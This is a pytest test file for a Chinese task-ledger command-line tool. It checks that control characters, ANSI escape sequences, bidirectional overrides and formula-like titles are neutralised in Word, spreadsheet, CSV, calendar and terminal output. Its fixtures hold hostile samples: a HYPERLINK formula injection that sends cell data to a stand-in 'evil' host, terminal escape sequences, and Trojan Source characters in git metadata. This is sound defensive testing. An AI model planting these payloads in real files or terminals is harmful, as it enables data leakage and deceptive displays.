"""Hostile ledger text in every output (issue 14.4, 14.5): control characters never reach a
document or a terminal, and a title that looks like a formula is never run as one.

Each output is read back: the Word bulletin with python-docx, the workbook with openpyxl,
the CSV with the csv module, the calendar with icalendar, the terminal as bytes."""

from __future__ import annotations

import csv
import io
import os
import random
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import icalendar
import openpyxl
import pytest
from docx import Document

from sanzhua.textsafe import for_terminal, printable

AS_OF = "2026-11-25"

# Every character of the issue, written as YAML escapes in double quotes.
CONTROLS = r"\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x1b\uFFFE"
HOSTILE_TITLE = rf"控制{CONTROLS}字符\e[31m红\e]0;pwn\a完"
FORMULA = '=HYPERLINK("http://evil"&A1,"x")'
LEDGER = textwrap.dedent(f"""\
    unit: fgw
    tasks:
      - id: A-1
        title: "{HOSTILE_TITLE}"
        owner: 张三
        start: 2026-01-01
        due: 2026-06-30
        progress:
          - {{date: 2026-05-01, percent: 10, note: "进展\\x08退格\\x07铃"}}
      - id: A-2
        title: '{FORMULA}'
        owner: 李四
        due: 2026-12-31
      - id: A-3
        title: "后面 & < > 符号"
        owner: '@王五'
        due: 2026-10-31
        progress:
          - {{date: 2026-05-01, percent: 10, note: "+1 -2 =3 @4"}}
      - id: A-4
        title: "再后 &amp; <b>不是标记</b>"
        owner: 赵六
        due: 2026-12-30
    """)
BAD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe]")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    r = tmp_path / "ledger"
    (r / "ledgers").mkdir(parents=True)
    (r / "sanzhua.yaml").write_text("name: 测试县\nyear: 2026\nlang: zh\n", encoding="utf-8")
    (r / "units.yaml").write_text(
        "units:\n  - {id: fgw, name: 县发改委, kind: 县直部门}\n", encoding="utf-8"
    )
    (r / "ledgers" / "fgw.yaml").write_text(LEDGER, encoding="utf-8")
    return r


def sanzhua(root: Path, *args: str, tty: bool = False) -> subprocess.CompletedProcess[bytes]:
    """Run the CLI (with --allow-errors where the command has it: check reports the control
    characters as errors, and the reports must still come out whole)."""
    helptext = subprocess.run(
        [sys.executable, "-m", "sanzhua", args[0], "--help"], capture_output=True, text=True
    ).stdout
    extra = ["--allow-errors"] if "--allow-errors" in helptext else []
    env = {**os.environ, "COLUMNS": "200"}
    return subprocess.run(
        [sys.executable, "-m", "sanzhua", *args, *extra],
        cwd=root,
        capture_output=True,
        env=env,
        timeout=120,
    )


def test_the_ledger_really_holds_the_characters(root: Path) -> None:
    from sanzhua.load import load_ledger

    ledger = load_ledger(root, cache=False)
    title = ledger.by_id["A-1"].title
    assert "\x01" in title and "\x1b" in title and "\x07" in title and "\ufffe" in title
    assert ledger.by_id["A-2"].title == FORMULA


def test_word_bulletin_keeps_every_later_tasks_text(root: Path) -> None:
    r = sanzhua(root, "brief", "--week", "--as-of", AS_OF, "--format", "docx", "-o", "b.docx")
    assert r.returncode in (0, 1), r.stderr.decode()
    doc = Document(str(root / "b.docx"))
    texts = [p.text for p in doc.paragraphs] + [
        c.text for t in doc.tables for row in t.rows for c in row.cells
    ]
    whole = "\n".join(texts)
    assert BAD.search(whole) is None
    assert "控制字符[31m红]0;pwn完" in whole
    assert "后面 & < > 符号" in whole  # the characters of a later task, intact
    assert "再后 &amp; <b>不是标记</b>" in whole
    # \x07 (docxtpl's paragraph break) did not split the title's paragraph.
    assert not any(t.strip() == "完" or t.startswith("完（") for t in texts)


def test_workbook_cells_are_strings_without_controls(root: Path) -> None:
    r = sanzhua(root, "export", "-f", "xlsx", "-o", "e.xlsx", "--as-of", AS_OF)
    assert r.returncode in (0, 1), r.stderr.decode()
    wb = openpyxl.load_workbook(root / "e.xlsx")
    ws = wb["台账"]
    header = [c.value for c in ws[3]]
    title_col = header.index("任务") + 1
    titles = {ws.cell(row=r_i, column=2).value: ws.cell(row=r_i, column=title_col)
              for r_i in range(4, ws.max_row + 1)}
    assert titles["A-2"].value == FORMULA and titles["A-2"].data_type == "s"
    assert titles["A-1"].value == "控制字符[31m红]0;pwn完"
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert c.data_type == "s", (sheet.title, c.coordinate, c.value)
                    assert BAD.search(c.value) is None
    # Also in the raw XML: no formula element anywhere.
    import zipfile

    with zipfile.ZipFile(root / "e.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_csv_cells_that_would_be_formulas_get_a_quote(root: Path) -> None:
    r = sanzhua(root, "export", "-f", "csv", "-o", "e.csv", "--as-of", AS_OF)
    assert r.returncode in (0, 1), r.stderr.decode()
    rows = list(csv.reader(io.StringIO((root / "e.csv").read_text(encoding="utf-8-sig"))))
    header = rows[0]
    by_id = {row[header.index("编号")]: row for row in rows[1:]}
    assert by_id["A-2"][header.index("任务")] == "'" + FORMULA
    assert by_id["A-3"][header.index("责任人")] == "'@王五"
    for row in rows:
        for value in row:
            assert BAD.search(value) is None
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_calendar_has_no_control_characters(root: Path) -> None:
    r = sanzhua(root, "calendar", "--as-of", AS_OF, "-o", "c.ics")
    assert r.returncode in (0, 1), r.stderr.decode()
    data = (root / "c.ics").read_bytes()
    assert BAD.search(data.decode("utf-8")) is None
    cal = icalendar.Calendar.from_ical(data)
    summaries = [str(e.get("summary")) for e in cal.walk("VEVENT")]
    assert any("控制字符[31m红]0;pwn完" in s for s in summaries)


@pytest.mark.parametrize(
    "args",
    [
        ("check", "--as-of", AS_OF),
        ("status", "--as-of", AS_OF),
        ("show", "A-1", "--as-of", AS_OF),
        ("brief", "--week", "--as-of", AS_OF),
        ("export", "-f", "csv", "--as-of", AS_OF),
    ],
)
def test_no_escape_sequence_reaches_the_terminal(root: Path, args: tuple[str, ...]) -> None:
    r = sanzhua(root, *args)
    assert r.stdout.strip() or r.stderr.strip()
    for stream in (r.stdout, r.stderr):
        text = stream.decode("utf-8")
        assert "\x1b" not in text and "\x07" not in text
        assert BAD.search(text.replace("\r\n", "\n")) is None, text
    if args[0] in ("status", "show", "brief"):
        assert "控制字符" in r.stdout.decode("utf-8")


def test_the_filters_themselves() -> None:
    assert printable("a\x00b\x1bc\ufffed\ud800e\tf\ng") == "abcde\tf\ng"
    assert for_terminal("a\x1b[31mb\x1b[0m\rc\r\n") == "a[31mb[0mc\r\n"
    assert for_terminal("\x1b[1;31m错误\x1b[0m \x1b]0;x\x07", colours=True) == (
        "\x1b[1;31m错误\x1b[0m ]0;x"
    )
    # bidirectional overrides and isolates would reorder what a line shows (Trojan Source)
    assert for_terminal("push \u202edeadline\u202c \u2067x\u2069") == "push deadline x"


def test_for_terminal_is_the_one_pattern_removal() -> None:
    """for_terminal tests in two steps (a character class, then a bare carriage return)
    what it removes in one pattern; on text with and without something to remove it gives
    exactly the pattern's removal (issue 17: the faster test must not let anything through)."""
    one = re.compile(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff\ud800-\udfff\u202a-\u202e\u2066-\u2069]|\r(?!\n)"
    )
    alphabet = ["a", "任", "\r", "\n", "\t", "\x1b", "\x00", "\x7f", "\x85", "\x9f", "\xa0", "\ufffe", "\ud800", " "]
    alphabet += ["\u202e", "\u2067"]
    rng = random.Random(17)
    texts = ["", "\r", "\r\n", "a\r", "任务\r\n完成", "\r\n\r", "x" * 50 + "\x9f"]
    texts += ["".join(rng.choice(alphabet) for _ in range(rng.randrange(12))) for _ in range(3000)]
    for text in texts:
        assert for_terminal(text) == one.sub("", text), repr(text)



def test_a_hostile_commit_reaches_audit_and_log_as_plain_text(root: Path) -> None:
    """A unit's editor controls its commit's author and subject: audit and log print them
    without escape sequences, bells or bidirectional overrides."""
    env = {**os.environ, "GIT_AUTHOR_NAME": "evil\x1b[31mRED\x1b]0;t\x07", "GIT_AUTHOR_EMAIL": "a\x1b[2J@x",
           "GIT_COMMITTER_NAME": "c", "GIT_COMMITTER_EMAIL": "c@x"}

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=root, env=env, check=True, capture_output=True)

    git("init", "-q")
    git("add", "-A")
    git("commit", "-qm", "init")
    path = root / "ledgers" / "fgw.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("2026-12-31", "2027-06-30", 1), encoding="utf-8")
    git("commit", "-qam", "push \x1b[2J\x1b[31mdeadline\x07 \u202egnp.exe")
    for args in (("audit",), ("log", "A-1")):
        r = sanzhua(root, *args)
        text = r.stdout.decode("utf-8") + r.stderr.decode("utf-8")
        assert "Traceback" not in text and "evil" in text
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, text
